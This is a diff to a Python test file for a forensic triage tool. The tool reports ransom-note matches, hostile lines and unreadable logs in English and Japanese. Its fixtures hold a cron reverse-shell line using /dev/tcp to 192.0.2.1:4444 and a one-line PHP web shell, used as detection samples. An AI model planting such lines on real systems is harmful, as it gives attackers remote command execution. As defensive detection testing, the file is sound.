@@ -1,5 +1,6 @@
 """The page: what a director reads on it, the way to the bytes, and what it never says."""
 
+import gzip
 import html
 import io
 import re
@@ -72,6 +73,65 @@ def test_the_first_sentence_says_what_the_strongest_sign_says_and_no_more(tmp_pa
     assert done.tried + done.not_tried == len(INDEX)
 
 
+def test_what_is_said_of_a_note_leads_to_the_words_of_its_family(tmp_path):
+    note = b" / ".join(EXAMPLES[f"{one}_phrase"].positive[0].encode() for one in ("conti", "akira"))
+    case = case_of(tmp_path, artifact("/srv/a.txt", note + b" / decrypt / tor browser / stolen"))
+    signs = signs_of(pages(triaged(case)[0])["en.html"])
+    shown = {row[1][0]: row[3] for row in signs}
+
+    assert "akira" in shown["a small file reads like a ransom note of Akira"][2]
+    assert "CONTI" in shown["a small file reads like a ransom note of Conti"][2]
+
+
+ONCE = {
+    "a shell": (
+        b"* * * * * root bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
+        "bash -i >& /dev/tcp/",
+    ),
+    "a web shell": (b"<?php if (1) { system($_REQUEST['c']); } ?>\n", "system($_REQUEST"),
+}
+
+
+@pytest.mark.parametrize("what", ONCE)
+def test_one_line_is_counted_once_and_leads_to_what_it_is_about(what, tmp_path):
+    data, words = ONCE[what]
+    page = pages(triaged(case_of(tmp_path, artifact("/srv/a", data)))[0])["en.txt"]
+
+    assert "seen: 1\n" in page
+    assert f"byte {data.index(words.encode())}\n" in page
+    assert f"    {words}" in page
+
+
+LOGS = {
+    "packed in another form": (
+        "auth.log.1.xz", b"\xfd7zXZ\0", "xz 形式の圧縮は、ここでは読めません",
+    ),
+    "an archive in another form": (
+        "auth.log.1.xz", b"\xfd7zXZ\0", "アーカイブ(xz)の中は見ていません",
+    ),
+    "packed, and cut off": (
+        "auth.log.1.gz", gzip.compress(b"x")[:-9], "圧縮を最後まで展開できません(",
+    ),
+    "cut off": ("wtmp", b"x" * 100, "末尾の 100 バイトは途中で切れています"),
+    "erased": ("btmp", bytes(384 * 3), "3 件がゼロだけです(消去または書込み前)"),
+    "in another form": ("auth.log", "Nov".encode("utf-16"), "1 行は形式が異なり、読めません"),
+    "no event log": ("x.evtx", b"x", "先頭がイベントログの形式ではありません"),
+    "an event log without its end": (
+        "y.evtx", log(*(Event(id=1, data=("x" * 900,)) for _ in range(99)))[:69632],
+        "ヘッダーでは 3 チャンク、実際は 1 チャンクです",
+    ),
+    "no journal": ("z.journal", b"x", "先頭がジャーナルの形式ではありません"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("what", LOGS)
+def test_why_a_log_was_not_read_is_said_in_japanese(what, tmp_path):
+    name, data, words = LOGS[what]
+    folder, _ = triaged(case_of(tmp_path, artifact(f"/var/log/{name}", data)))
+
+    assert f"/var/log/{name}: {words}" in pages(folder)["ja.txt"]
+
+
 @pytest.mark.parametrize(
     "name",
     ["MyProject.README.txt", "info.hta", "Johann.faust", "crown.eight", "suzuki.akira",
@@ -132,7 +192,7 @@ def events(name):
 def test_what_was_there_to_look_at_decides_which_rules_were_tried(
     tmp_path, things, subject, tried, not_tried
 ):
-    _, done = triaged(case_of(tmp_path, *things))
+    _, done = triaged(case_of(tmp_path, *things, footprint=False))
 
     assert (done.subjects[subject].tried, done.subjects[subject].not_tried) == (tried, not_tried)
 
